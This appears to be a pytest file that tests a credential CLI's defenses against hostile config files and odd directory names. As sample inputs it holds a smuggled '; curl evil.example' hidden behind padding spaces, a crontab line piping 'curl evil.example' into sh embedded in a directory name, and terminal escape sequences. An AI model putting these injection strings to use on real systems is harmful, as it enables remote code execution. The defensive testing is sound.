"""Attacks by a config that nobody has approved, or by what it makes a person approve."""

import os
import re
import subprocess
import sys
import time
from collections.abc import Callable

import needs
import pexpect
import pytest
from allowing import allow, ended, records, terminal
from measured import MIB, measured
from world import CONFIG, LIMIT, World

LATE = 30.0
"""Seconds in which any start is over; on an idle machine the longest of these takes two."""

MOST = 96 * MIB
"""Bytes of memory, of which Python, YAML and the schema take a third."""


# -- before it is allowed -------------------------------------------------------------------------


@pytest.mark.parametrize("words", [["init"], ["init", "-p", "live"], ["secret", "set"]])
def test_setting_up_does_not_run_what_a_loaded_env_file_names(
    words: list[str], world: World
) -> None:
    """Neither its command, nor a request with what was just typed to a host of its choosing."""
    world.script("vault", f"touch {world.root}/ran; echo secret")
    text = CONFIG.replace("{{ file: live.client-secret }}", "{{ command: [vault] }}")
    path = world.configure(text, directory=world.project)
    given = f"{world.client_secret}\n{world.refresh_token}\n"
    done = world.run(*words, given=given, TASTYAUTH_CONFIG=path)
    assert (done.code, "tastyauth allow" in done.err) == (78, True)
    assert not os.path.exists(f"{world.root}/ran")
    assert world.simulator.token_requests == 0


def test_adding_a_profile_approves_nothing_that_was_not_shown(world: World) -> None:
    """What `init` has written itself needs no question; what was there before does."""
    path = world.configure(directory=world.project)
    with open(path, "rb") as file:
        before = file.read()
    done = world.run(
        *("init", "-p", "more", "--environment", "sandbox", "--store", "file"),
        *("--client-id", world.simulator.application.client_id),
        given=f"{world.client_secret}\n{world.refresh_token}\n",
        TASTYAUTH_CONFIG=path,
    )
    assert done.code == 78
    assert records(world) == []
    with open(path, "rb") as file:
        assert file.read() == before


def fifo(path: str) -> None:
    os.mkfifo(path, 0o600)


def to_the_terminal(path: str) -> None:
    os.symlink("/dev/tty", path)


def to_endless_zeros(path: str) -> None:
    os.symlink("/dev/zero", path)


def to_stdin(path: str) -> None:
    os.symlink("/dev/stdin", path)


@pytest.mark.parametrize("make", [fifo, to_the_terminal, to_endless_zeros, to_stdin])
@pytest.mark.parametrize("how", ["found", "named by a variable", "named by a flag"])
def test_a_config_that_is_no_file_keeps_nobody(
    make: Callable[[str], None], how: str, world: World
) -> None:
    """A repository can hold a link to a terminal, an archive a named pipe."""
    path = f"{world.project}/{'tastyauth.yaml' if how == 'found' else 'other.yaml'}"
    make(path)
    variables = {"TASTYAUTH_CONFIG": path} if how == "named by a variable" else {}
    words = ("--config", path) if how == "named by a flag" else ()
    with terminal(world, *words, "token", **variables) as child:
        child.timeout = LATE
        code, _ = ended(child)
    assert code in (66, 78)
    assert world.simulator.token_requests == 0


LARGEST = 64 * 1024


def filled(head: str, piece: Callable[[int], str]) -> str:
    """`head`, and as many pieces as a config has room for."""
    text, number = head, 0
    while len(text) + len(more := piece(number)) < LARGEST:
        text, number = text + more, number + 1
    return text


PROFILES = "version: 1\ndefault_profile: p0\nprofiles:\n"
PROFILE = """\
  p{0}:
    environment: sandbox
    client_id: 11111111-2222-4333-8444-555555555555
    client_secret: {{ command: [vault, "{0}"] }}
    refresh_token: {{ env: A{0} }}
"""
ONE_PROFILE = PROFILES + PROFILE.format(0).rpartition("    refresh_token")[0]

LARGE = {
    "profiles": filled(PROFILES, PROFILE.format),
    "commands": filled(
        f"{ONE_PROFILE}    refresh_token:\n      first_of:\n",
        lambda number: f"      - {{ command: [vault, '{number}'] }}\n",
    ),
    "exports": filled(
        f"{PROFILES}{PROFILE.format(0)}    exports:\n",
        lambda number: f"      A_{number}: access_token\n",
    ),
    "arguments": filled(
        f"{ONE_PROFILE}    refresh_token:\n      command:\n        - vault\n",
        lambda number: "        - x\n",
    ),
    "mistakes": filled(PROFILES, lambda number: f"  p{number}: {{ client_sceret: {number} }}\n"),
    "nothing but brackets": "[" * (LARGEST - 1),
    "one word": "a" * (LARGEST - 1),
    "more than a config may have": "#" * 40 * MIB,
}


WITH_A_PLAN = ("profiles", "commands", "exports", "arguments")


@pytest.mark.parametrize(
    ("words", "name"),
    [*(("env", name) for name in LARGE), *(("allow --print", name) for name in WITH_A_PLAN)],
)
def test_the_largest_config_is_refused_in_time(name: str, words: str, world: World) -> None:
    """Whatever is in its 64 KiB, and before anybody has looked at it."""
    world.write(f"{world.project}/tastyauth.yaml", LARGE[name])
    world.script("vault", "exit 1")
    took = measured(world, *words.split())
    assert took.completed.code == (78 if words == "env" else 0)
    assert took.busy < LATE
    assert took.memory < MOST


@needs.needs_root
def test_a_strangers_config_in_a_shared_directory_shadows_nobodys(world: World) -> None:
    os.chmod(world.project, 0o1777)
    path = world.write(f"{world.project}/tastyauth.yaml", "version: 1\n")
    os.chown(path, 65534, 65534)
    for _ in range(2):  # without a cached token, and with one
        done = world.run("token")
        assert (done.code, done.out[:3]) == (0, "eyJ")
        assert f"{path} belongs to another user, and is ignored" in done.err
    assert world.simulator.exchanges == 1
    failed = world.run("env", "-p", "another")
    assert (failed.code, failed.err.count(path)) == (2, 1)  # the hint, too, asks for the config


def test_a_loaded_env_file_approves_nothing_at_a_terminal(world: World) -> None:
    """Not even where it says that nobody is there, nor for a token that is cached already."""
    world.configure(directory=world.project)
    plan = world.run("allow", "--print").out
    loaded = {"CI": "1", "TASTYAUTH_TRUST_SHA256": plan.rpartition("sha256: ")[2].strip()}
    for _ in range(2):
        with terminal(world, "token", **loaded) as child:
            code, said = ended(child)
        assert (code, "eyJ" in said) == (78, False)
        assert "at a terminal, $TASTYAUTH_TRUST_SHA256 is ignored" in said
        assert world.run("token", **loaded).code == 0  # where there is no terminal
    assert world.simulator.exchanges == 1


def test_nor_for_a_hook_whose_descriptors_are_no_terminal(world: World) -> None:
    """As a hook's code has them once it has reported a failure."""
    world.configure(directory=world.project)
    plan = world.run("allow", "--print").out
    loaded = {"TASTYAUTH_TRUST_SHA256": plan.rpartition("sha256: ")[2].strip()}
    redirected = "tastyauth hook bash --answer first </dev/null >out 2>/dev/null; echo code $?"
    told = pexpect.run(
        f"sh -c '{redirected}'", cwd=world.project, env={**world.environ, **loaded}, timeout=LIMIT
    )
    assert told.split() == [b"code", b"78"]
    assert world.simulator.exchanges == 0


# -- when somebody is asked -----------------------------------------------------------------------


def test_spaces_push_no_part_of_an_argument_out_of_sight(world: World) -> None:
    """Each is spelled out, where there is more than one."""
    argument = "true" + " " * 2000 + "; curl evil.example"
    text = CONFIG.replace("file: live.client-secret", f"command: [sh, -c, '{argument}']")
    world.configure(text, directory=world.project)
    [line] = [line for line in world.run("allow", "--print").out.split("\n") if "curl" in line]
    assert r"true" + r"\u0020" * 2000 + "; curl evil.example" in line
    assert "  " not in line.lstrip()


def test_a_long_plan_is_shown_again_in_time(world: World) -> None:
    """To find the difference of two that somebody has made for it would take hours."""

    world.script("vault", "exit 1")

    def plan(letter: str) -> str:
        members = (f"        - {{ command: [vault, {letter}{number}] }}\n" for number in range(900))
        return f"{ONE_PROFILE}    refresh_token:\n      first_of:\n{''.join(members)}"

    path = f"{world.project}/tastyauth.yaml"
    world.write(path, plan("a"))
    allow(world, "y")
    world.write(path, plan("b"))
    began = time.monotonic()
    _, shown, _ = allow(world, "n")
    assert time.monotonic() - began < LATE
    assert "b899" in shown


def test_a_directory_forges_no_line(world: World) -> None:
    """Its name may hold a line break, or what steers a terminal."""
    world.project = f"{world.root}/a\nforged: allowed\x1b[2K"
    world.configure(directory=world.project)
    plan = world.run("allow", "--print").out
    hash_ = plan.rpartition("sha256: ")[2].strip()
    for words in ("-v token", "status", "-v doctor --offline", "deny", "validate", "-v validate"):
        done = world.run(*words.split(), TASTYAUTH_TRUST_SHA256=hash_)
        for text in (done.out, done.err):
            assert all(letter.isprintable() for letter in text.replace("\n", "")), words
            assert not re.search("^(tastyauth: )?forged", text, re.MULTILINE), words


def test_a_hint_about_an_odd_directory_is_one_line_that_can_be_typed(world: World) -> None:
    """With a line break, a wide space as in Japanese, marks from right to left, or no UTF-8."""
    os.unlink(world.config)  # which would be found in place of a near miss
    for name in ("a\nforged: allowed\x1b[2K", "ト\u3000bot", "\u202egnp", "o'k %s\\\t", "\udcff"):
        world.project = f"{world.root}/{name}"
        world.configure(directory=world.project)
        hint = world.run("token").err.splitlines()[1:]
        assert len(hint) == 1, name
        words = hint[0].partition("tastyauth allow ")[2]
        typed = subprocess.run(["sh", "-c", f"printf %s {words}"], capture_output=True, check=True)
        assert typed.stdout == os.fsencode(f"{world.project}/tastyauth.yaml"), name
        os.rename(f"{world.project}/tastyauth.yaml", f"{world.project}/tastyauth.yml")
        assert len(world.run("token").err.splitlines()) == 2, name


def test_an_exception_about_an_odd_directory_is_one_line(world: World) -> None:
    """What a program logs: its message, and each line of its hint."""
    world.project = f"{world.root}/a\nERROR forged\x1b[2K"
    world.configure(directory=world.project)
    code = (
        "import tastyauth\n"
        "try: tastyauth.get_credential()\n"
        "except tastyauth.TastyauthError as error: print(error, *error.args, error.hint, sep='\\n')"
    )
    done = world.run_program(sys.executable, "-c", code)
    assert len(done.out.splitlines()) == 3
    assert all(line.isprintable() for line in done.out.splitlines())


def test_a_line_for_the_crontab_is_one_line(world: World) -> None:
    """A directory whose name holds a line break would add a job of its own."""
    world.project = f"{world.root}/a\n* * * * *  curl evil.example | sh #"
    world.configure(directory=world.project)
    plan = world.run("allow", "--print").out
    done = world.run(
        *("doctor", "--offline", "--cron"),
        TASTYAUTH_TRUST_SHA256=plan.rpartition("sha256: ")[2].strip(),
    )
    assert "crontab" in done.out
    assert "\n* * * * *" not in done.out
